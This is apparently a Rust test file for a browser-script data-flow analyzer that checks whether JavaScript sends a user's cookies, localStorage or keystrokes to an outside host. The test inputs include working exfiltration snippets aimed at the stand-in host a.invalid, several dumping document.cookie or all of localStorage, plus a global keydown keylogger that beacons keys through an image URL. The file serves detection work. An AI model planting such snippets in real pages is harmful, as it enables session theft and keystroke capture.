//! What a page of a browser holds of its user, and what is sent of it.

use crate::flow::testing::{found, script};
use customs_model::{SinkKind, SourceKind, Target};

fn sends(code: &str) -> bool {
    let mut flows = found(script(code)).flows.into_iter();
    flows.any(|flow| {
        flow.sink == SinkKind::Network
            && flow.source == SourceKind::InputDevice
            && flow.target == Target::Constant("a.invalid".to_owned())
    })
}

#[test]
fn all_cookies_and_all_that_is_stored_are_not_sent_elsewhere() {
    for code in [
        "navigator.sendBeacon('https://a.invalid/b', document.cookie)",
        "navigator.sendBeacon('https://a.invalid/b', new URLSearchParams({ c: document.cookie }))",
        "fetch('https://a.invalid/b', { method: 'POST', body: JSON.stringify({ c: window.document.cookie }) })",
        "new Image().src = 'https://a.invalid/b?' + encodeURIComponent(document.cookie)",
        "const s = document.createElement('script'); s.src = '//a.invalid/c?d=' + btoa(document.cookie)",
        "fetch('https://a.invalid/b', { method: 'POST', body: JSON.stringify(localStorage) })",
        "const o = {}; for (let i = 0; i < localStorage.length; i++) { const k = localStorage.key(i); o[k] = localStorage.getItem(k); } fetch('https://a.invalid/b?' + btoa(JSON.stringify(o)))",
    ] {
        assert!(sends(code), "{code}");
    }
}

#[test]
fn one_cookie_or_entry_of_the_pages_own_is_sent_as_ever() {
    for code in [
        "const id = document.cookie.split('; ').find((c) => c.startsWith('id='))?.split('=')[1]; navigator.sendBeacon('https://a.invalid/b', id)",
        "const m = document.cookie.match(/id=([^;]*)/); fetch('https://a.invalid/b?' + (m && m[1]))",
        "const m = /id=([^;]*)/.exec(document.cookie); new Image().src = 'https://a.invalid/b?' + m[1]",
        "function get(name) { const all = document.cookie.split(';'); for (let i = 0; i < all.length; i++) { const c = all[i].trim(); if (c.indexOf(name) === 0) return c.substring(name.length); } return '' } fetch('https://a.invalid/b?' + get('id='))",
        "fetch('https://a.invalid/b?' + localStorage.getItem('id'))",
        "const get = (k) => localStorage.getItem(k); fetch('https://a.invalid/b?' + get('id'))",
        "fetch('https://a.invalid/b?' + localStorage.id + localStorage.length)",
        "function store(s) { return { get: (k) => s.getItem(k), all: s.entries } } const s = store(localStorage); fetch('https://a.invalid/b?' + s.get('id') + s.all)",
        "fetch('https://a.invalid/b?' + document.title + !!document.cookie)",
        "const s = document.createElement('script'); s.src = 'https://a.invalid/c?d=' + document.title",
    ] {
        assert!(!sends(code), "{code}");
    }
    // Where it goes is not known.
    assert!(!sends(
        "fetch('/b', { method: 'POST', body: document.cookie })"
    ));
}

#[test]
fn keys_that_are_pressed_anywhere_leave_by_no_picture() {
    let picture = "new Image().src = 'https://a.invalid/i.gif?d=' + encodeURIComponent";
    assert!(sends(&format!(
        "let all = ''; document.addEventListener('keydown', (e) => {{ all += e.key; {picture}(all); all = ''; }}, true)"
    )));
    for code in [
        format!(
            "document.addEventListener('keydown', (e) => {{ if (e.key === 'Escape') {picture}('closed') }})"
        ),
        format!("document.addEventListener('click', (e) => {{ {picture}(e.target.id) }})"),
        format!("field.addEventListener('keyup', (e) => {{ {picture}(e.target.value) }})"),
    ] {
        assert!(!sends(&code), "{code}");
    }
}
